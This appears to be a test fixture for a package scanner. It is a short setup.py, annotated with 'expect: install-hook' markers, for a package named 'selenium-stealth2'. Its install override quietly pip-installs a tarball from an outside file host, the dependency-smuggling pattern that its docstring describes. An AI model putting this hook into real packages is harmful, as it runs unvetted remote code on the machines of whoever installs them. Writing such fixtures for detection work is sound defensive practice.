# ruff: noqa
# fmt: off
"""An install override that pip-installs a second package from a URL (dependency smuggling, as in the
'ctx'/'phpass' follow-ups): the real payload never appears on PyPI."""
import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install


class Install(install):  # expect: install-hook
    def run(self):
        subprocess.check_call([sys.executable, "-m", "pip", "install", "--quiet", "https://files.catbox.moe/2kq1x.tar.gz"])  # expect: install-hook
        install.run(self)


setup(name="selenium-stealth2", version="1.0.0", cmdclass={"install": Install})  # expect: install-hook
